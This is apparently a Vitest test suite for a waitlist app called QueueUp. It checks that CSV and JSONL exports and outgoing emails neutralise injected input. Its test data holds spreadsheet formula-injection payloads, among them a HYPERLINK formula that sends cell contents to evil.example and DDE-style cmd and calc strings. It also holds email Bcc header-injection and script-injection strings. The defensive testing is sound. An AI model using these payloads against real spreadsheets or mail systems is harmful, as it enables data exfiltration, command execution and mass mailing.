import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createApiKey } from '../src/features/api-keys/create-api-key.ts'
import { readConfig } from '../src/platform/config.ts'
import { unguardCell } from '../src/platform/csv/csv-line.ts'
import { makeMailer } from '../src/platform/mail/make-mailer.ts'
import { asApiKey, asUser } from './as.ts'
import { bringFile, doQueued, pressStart } from './bring-file.ts'
import { downloadArchive } from './download-archive.ts'
import { reportFigure } from './figures.ts'
import { makeOrganisation, makeProduct, type TestOrganisation, type TestProduct } from './make.ts'
import { mailsTo } from './people.ts'

/** What a spreadsheet runs, with and without quotes in front; what breaks a line, a cell, a header or a page. */
const words = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "'=1+1",
  "''@SUM(1)",
  '+1+1',
  '-1+1|calc!A1',
  '@SUM(1+1)*cmd|x',
  'a","=1+1',
  '=?utf-8?q?Eve=0D=0ABcc:_everybody=40evil.example?=',
  '<img src=x onerror=trap()>, Bcc: everybody',
  '%0d%0aBcc: everybody',
  '=1🦊﹦＝１',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
]
const emails = ['=1+1@example.com', "'=x@example.com", '+plus@example.com', '-minus@example.com', "''@example.com"]
/** As they come into a file that somebody brings; a name may hold no controls. */
const cells = [...words, '\t=1+1', '\r=1+1', ' =1+1', '\u3000＝1', '\0=1', '"=1"\n=2']
const userAgent = '=cmd|x "quoted", <b>'

let product: TestProduct
let organisation: TestOrganisation
/** By what each is: everything with a name that ends with csv or jsonl. */
const given = new Map<string, string>()

beforeAll(async () => {
  product = await makeProduct()
  organisation = await makeOrganisation(product, 'team')
  const owner = await asUser(product, organisation.owner)
  const home = `/o/${organisation.slug}`
  const agent = { 'User-Agent': userAgent, 'Request-Id': '-1-1' }
  const named = async (path: string, name: string) =>
    (await owner.post(path, { name, referrals_enabled: 'on', skip_amount: '1' }, agent)).location ?? ''
  const lists: string[] = []
  for (const [i, name] of words.entries()) {
    await named('/account/name', name.replaceAll('@', '﹫'))
    await named(`${home}/settings`, name)
    // Ten, as many as an organisation may send at once.
    const invited = { email: `guest-${i}@example.com`, role: 'admin' }
    if (i > 0) await owner.post(`${home}/members/invitations`, invited, agent)
    lists.push(await named(`${home}/waitlists`, name))
  }
  const [list = ''] = lists
  const setUp = { name: words[0] ?? '', description: words.join('\n'), referrals_enabled: 'on', skip_amount: '5' }
  await owner.post(`${list}/setup`, setUp, agent)
  const keys = []
  for (const name of words)
    keys.push(await createApiKey(organisation.ctx, { name: name.slice(0, 50), scopes: ['subscribers:write'] }))
  const [key] = keys
  const api = asApiKey(product, key?.created ? key.secret : undefined)
  for (const email of emails) {
    const sent = { ...agent, 'Idempotency-Key': `=${email}` }
    const answer = await api.post(`${list.replace(home, '')}/subscribers`, { email }, sent)
    expect([answer.status, answer.headers.get('request-id')]).toEqual([201, '-1-1'])
  }
  const rows = [...emails, ...cells].map((cell) => `"${cell.replaceAll('"', '""')}"`)
  const header = rows.slice(0, 3).join(',')
  const file = [`Email,${header}`, ...rows.map((cell, i) => `${i % 2 ? cell : `p${i}@example.com`},${cell},,${cell}`)]
  const brought = await bringFile(product, owner, list, `${file.join('\r\n')}\r\n"never, =closed`, '=1+1,"x.csv')
  await pressStart(owner, brought)
  await doQueued(product)
  await owner.post('/forgot-password', { email: organisation.owner.email }, agent)
  await owner.post('/account/email', { email: `new-${organisation.owner.email}` }, agent)
  const archive = await downloadArchive(product, organisation, owner.cookie())
  for (const [name, text] of archive.files) given.set(`archive/${name}`, text)
  const take = async (name: string, answer: Promise<{ status: number; html: string }>) => {
    const { status, html } = await answer
    expect([name, status]).toEqual([name, 200])
    given.set(name, html)
  }
  await take('subscribers.csv', owner.post(`${list}/export`, {}))
  await take('results.csv', owner.post(`${brought}/results.csv`))
  await take('refused.csv', owner.post(`${brought}/results.csv`, { only: 'refused' }))
  await take('log.csv', owner.post(`${home}/activity/export`, { format: 'csv' }))
  await take('log.jsonl', owner.post(`${home}/activity/export`, { format: 'jsonl' }))
})
afterAll(() => product.close())

const csvOf = (name: string): string[][] => parse(given.get(name) ?? '', { relax_column_count: false })

test('no cell of any CSV is one that a spreadsheet runs, heads of columns included, and each word can be had back as it was', () => {
  const csvs = [...given.keys()].filter((name) => name.endsWith('.csv'))
  expect(csvs.length).toBeGreaterThan(14)
  let read = 0
  const found = new Set<string>()
  for (const name of csvs)
    for (const [number, line] of csvOf(name).entries())
      for (const [column, cell] of line.entries()) {
        read += 1
        found.add(unguardCell(cell))
        expect(`${name}, line ${number + 1}, column ${column + 1}: ${JSON.stringify(cell)}`).not.toMatch(
          /: "(?:\\t|\\r|\\n|\\u0000|\s*[=+\-@＝＋－＠])/,
        )
        // With a quote that was there already comes one more, and nothing is lost.
        if (/^'+(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/.test(cell)) expect(`'${unguardCell(cell)}`).toBe(cell)
      }
  expect(
    [...words, ...emails, userAgent, '-1-1', '\t=1+1', '\r=1+1', ' =1+1', '\u3000＝1'].filter(
      (word) => !found.has(word),
    ),
  ).toEqual([])
  reportFigure('cells of CSV read, none that a spreadsheet runs', read)
})

test('each line of JSON Lines is one row, whatever is in it', () => {
  const files = [...given].filter(([name]) => name.endsWith('.jsonl'))
  expect(files.length).toBeGreaterThan(10)
  for (const [name, text] of files) {
    expect([name, /[\p{Cc}]/u.test(text.replaceAll('\n', ''))]).toEqual([name, false])
    const rows = text
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as unknown)
    if (!name.startsWith('archive/')) continue
    expect([name, rows.length]).toEqual([name, csvOf(name.replace('.jsonl', '.csv')).length - 1])
  }
})

test('no name adds to the head of a mail, and each mail is plain text to the one whom it is for', async () => {
  await mailsTo(product, '')
  const dataDir = mkdtempSync(join(tmpdir(), 'queueup-mails-'))
  const mailer = makeMailer(readConfig({ DATA_DIR: dataDir }).config)
  const subjects = new Set<string>()
  for (const mail of product.mails) {
    await mailer.send(mail)
    const [file = ''] = readdirSync(join(dataDir, 'outbox'))
    const [head = '', ...body] = readFileSync(join(dataDir, 'outbox', file), 'utf8').split('\r\n\r\n')
    rmSync(join(dataDir, 'outbox', file))
    const fields = head
      .replace(/\r\n[ \t]+/g, ' ')
      .split('\r\n')
      .map((line) => line.split(/: (.*)/s))
    expect(fields.map(([name]) => name).toSorted()).toEqual([
      'Content-Transfer-Encoding',
      'Content-Type',
      'Date',
      'From',
      'MIME-Version',
      'Message-ID',
      'Subject',
      'To',
    ])
    const { From, To, Subject = '', ...rest } = Object.fromEntries(fields) as Record<string, string>
    expect([From, To, rest['Content-Type']]).toEqual([
      'QueueUp <no-reply@localhost>',
      mail.to,
      'text/plain; charset=utf-8',
    ])
    // What reads as an encoded word is none: a mail program would show what it hides, line breaks and all.
    expect(decodeWords(Subject)).toBe(mail.subject.replaceAll('=?', '= ?'))
    expect(body.join('\r\n\r\n').replaceAll('\r\n', '\n').trimEnd()).toBe(mail.text.replaceAll('\r\n', '\n').trimEnd())
    subjects.add(mail.subject)
  }
  rmSync(dataDir, { recursive: true })
  expect([...subjects]).toEqual(expect.arrayContaining(words.slice(1).map((name) => `Join ${name} at QueueUp`)))
})

/** As a mail program shows a header (RFC 2047). */
function decodeWords(text: string): string {
  const joined = text.replace(/\?=\s+=\?/g, '?==?')
  return joined.replace(/=\?utf-8\?([qb])\?(.*?)\?=/gi, (_, how: string, word: string) =>
    how.toLowerCase() === 'b'
      ? Buffer.from(word, 'base64').toString()
      : decodeURIComponent(
          word
            .replaceAll('_', ' ')
            .replaceAll('%', '%25')
            .replace(/=([0-9A-F]{2})/gi, '%$1'),
        ),
  )
}
